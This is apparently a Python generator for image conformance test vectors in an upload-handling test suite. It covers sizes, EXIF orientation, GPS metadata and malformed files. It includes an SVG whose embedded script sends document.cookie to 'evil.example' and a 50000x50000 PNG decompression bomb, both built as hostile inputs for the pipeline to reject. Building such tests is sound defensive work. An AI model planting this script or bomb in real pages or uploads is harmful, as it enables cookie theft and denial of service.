"""Make the conformance images (creatorpost.testing.image_conformance.VECTORS) with Pillow.

    python tests/vectors/images/generate.py OUT_DIR

Files are generated, never committed: they are large and Pillow makes them in seconds.
Pictures that are shown upright carry a red patch top-left and a blue patch bottom-right
(after EXIF orientation), so a test can see that an output is upright.
"""

from __future__ import annotations

import concurrent.futures
import fcntl
import functools
import io
import os
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import ExifTags, Image, ImageDraw

from creatorpost.testing.image_conformance import MARKER_FRACTION, VECTORS

RED, BLUE = (220, 20, 20), (20, 20, 220)


def photo(width: int, height: int, noise: float = 24.0) -> Image.Image:
    """Gradients plus grain: compresses like a photo, not like a drawing."""
    red = Image.linear_gradient("L").resize((width, height))
    green = Image.radial_gradient("L").resize((width, height))
    base = Image.merge("RGB", (red, green, grain(width, height, noise)))
    return _mark(base)


GRAIN_BAND = 67  # rows: a band repeats far beyond deflate's 32 KB window and never within a JPEG block


def grain(width: int, height: int, noise: float) -> Image.Image:
    """Gaussian grain, made as one band of rows repeated down the picture (noise is costly to draw:
    3 s for 24 megapixels, a tenth of that this way); no row repeats within itself."""
    band = Image.effect_noise((width, min(height, GRAIN_BAND)), noise)
    out = Image.new("L", (width, height))
    for top in range(0, height, GRAIN_BAND):
        out.paste(band, (0, top))
    return out


def flat(width: int, height: int) -> Image.Image:
    """Few colours in large areas: a logo or a drawing."""
    im = Image.new("RGB", (width, height), (250, 240, 200))
    draw = ImageDraw.Draw(im)
    draw.ellipse((width // 4, height // 4, width * 3 // 4, height * 3 // 4), fill=(40, 160, 90))
    draw.rectangle((width // 3, height // 2, width * 2 // 3, height * 5 // 6), fill=(250, 200, 0))
    return _mark(im)


def _mark(im: Image.Image) -> Image.Image:
    w, h = im.size
    mw, mh = max(2, int(w * MARKER_FRACTION)), max(2, int(h * MARKER_FRACTION))
    draw = ImageDraw.Draw(im)
    draw.rectangle((0, 0, mw, mh), fill=RED)
    draw.rectangle((w - 1 - mw, h - 1 - mh, w - 1, h - 1), fill=BLUE)
    return im


def _jpeg(im: Image.Image, **options: object) -> bytes:
    buffer = io.BytesIO()
    im.save(buffer, "JPEG", **options)
    return buffer.getvalue()


def _save(im: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    im.save(buffer, fmt, **options)
    return buffer.getvalue()


# How each EXIF orientation is stored, from the upright picture: the inverse of what a viewer applies.
_STORED = {2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180, 4: Image.Transpose.FLIP_TOP_BOTTOM,
           5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90, 7: Image.Transpose.TRANSVERSE,
           8: Image.Transpose.ROTATE_270}


def oriented(orientation: int) -> bytes:
    """A 2400x1600 upright photo stored with EXIF orientation `orientation`."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return _jpeg(photo(2400, 1600).transpose(_STORED[orientation]), quality=90, exif=exif.tobytes())


def rotated_o6() -> bytes:
    # Orientation 6 means "turn 90 degrees clockwise to view": store the upright picture
    # turned 90 degrees counter-clockwise.
    upright = photo(3000, 4000)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    return _jpeg(upright.transpose(Image.Transpose.ROTATE_90), quality=90, exif=exif.tobytes())


def with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 31.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 12.0)
    return _jpeg(photo(1000, 800), quality=90, exif=exif.tobytes())


def gray16() -> bytes:
    wide = Image.linear_gradient("L").rotate(90).resize((1000, 800)).convert("I")
    deep = wide.point(lambda v: v * 257).convert("I;16")
    return _save(deep, "PNG")


def palette() -> bytes:
    return _save(flat(800, 600).convert("P", palette=Image.Palette.ADAPTIVE, colors=16), "PNG")


def transparent() -> bytes:
    im = photo(2400, 1200).convert("RGBA")
    alpha = Image.linear_gradient("L").rotate(90).resize(im.size)
    alpha.paste(255, (0, 0, 400, 200))
    alpha.paste(255, (2000, 1000, 2400, 1200))
    im.putalpha(alpha)
    return _save(im, "PNG")


def animated(fmt: str) -> bytes:
    frames = [photo(800, 400, noise=10.0 + 10 * i) for i in range(3)]
    if fmt == "GIF":
        frames = [f.convert("P", palette=Image.Palette.ADAPTIVE) for f in frames]
    extra = {"quality": 80} if fmt == "WEBP" else {}
    return _save(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0, **extra)


def png_bomb(side: int = 50000) -> bytes:
    """A valid 1-bit greyscale PNG, side x side, all black: a few hundred KB of zlib."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    ihdr = side.to_bytes(4, "big") * 2 + bytes((1, 0, 0, 0, 0))
    row = bytes(1 + (side + 7) // 8)
    block = row * 500
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(block) for _ in range(side // 500)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="1000" height="800">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="1000" height="800" fill="red"/>
</svg>
"""

MAKERS: dict[str, Callable[[], bytes]] = {
    "min_750x360.jpg": lambda: _jpeg(photo(750, 360), quality=90),
    "under_749x360.jpg": lambda: _jpeg(photo(749, 360), quality=90),
    "under_750x359.jpg": lambda: _jpeg(photo(750, 359), quality=90),
    "huge_6000x4000.jpg": lambda: _jpeg(photo(6000, 4000), quality=90),
    "rotated_o6_4000x3000.jpg": rotated_o6,
    **{f"oriented_o{n}_2400x1600.jpg": functools.partial(oriented, n) for n in (2, 3, 4, 5, 7, 8)},
    "gps_1000x800.jpg": with_gps,
    "cmyk_1200x800.jpg": lambda: _jpeg(photo(1200, 800).convert("CMYK"), quality=90),
    "gray16_1000x800.png": gray16,
    "palette_800x600.png": palette,
    "transparent_2400x1200.png": transparent,
    "animated_800x400.gif": lambda: animated("GIF"),
    "animated_800x400.webp": lambda: animated("WEBP"),
    "photo_1600x900.webp": lambda: _save(photo(1600, 900), "WEBP", quality=80),
    "truncated_1000x800.jpg": lambda: (lambda d: d[: len(d) // 2])(_jpeg(photo(1000, 800), quality=90)),
    "text_named.jpg": lambda: b"This is a shopping list, not a photo.\nmilk\nbread\n",
    "script.svg": lambda: SVG,
    "bomb_50000x50000.png": png_bomb,
    "banner_q100_2000x2000.jpg": lambda: _jpeg(photo(2000, 2000, noise=90.0), quality=100, subsampling=0),
    "banner_flat_2500x2500.png": lambda: _save(flat(2500, 2500), "PNG"),
    "banner_tall_360x750.jpg": lambda: _jpeg(photo(360, 750), quality=90),
    "panorama_9000x1000.jpg": lambda: _jpeg(photo(9000, 1000), quality=85),
}


def run_folder(basetemp: Path) -> Path:
    """Where a test run keeps the vectors: its pytest-xdist workers share one folder of the run (each
    worker's basetemp lies in it), so they are made once a run, not once a worker."""
    return (basetemp.parent if "PYTEST_XDIST_WORKER" in os.environ else basetemp) / "image_vectors"


def generate(out_dir: Path) -> dict[str, Path]:
    """Write every vector into out_dir (once, whichever process of the run asks first); the path of each by name."""
    out_dir.mkdir(parents=True, exist_ok=True)
    missing = {row.name for row in VECTORS} - MAKERS.keys()
    if missing:
        raise KeyError(f"no maker for vectors {sorted(missing)}")
    with (out_dir / ".lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # another worker making them: wait for its files
        return _make_missing(out_dir)


def _make_missing(out_dir: Path) -> dict[str, Path]:
    paths = {row.name: out_dir / row.name for row in VECTORS}

    def make(name: str) -> None:
        partial = paths[name].with_name(paths[name].name + ".partial")
        partial.write_bytes(MAKERS[name]())
        partial.rename(paths[name])

    # Pillow's encoders and zlib let go of the GIL: one maker per core.
    with concurrent.futures.ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
        list(pool.map(make, [name for name, path in paths.items() if not path.exists()]))
    return paths


if __name__ == "__main__":
    for name, path in generate(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>10}  {name}")
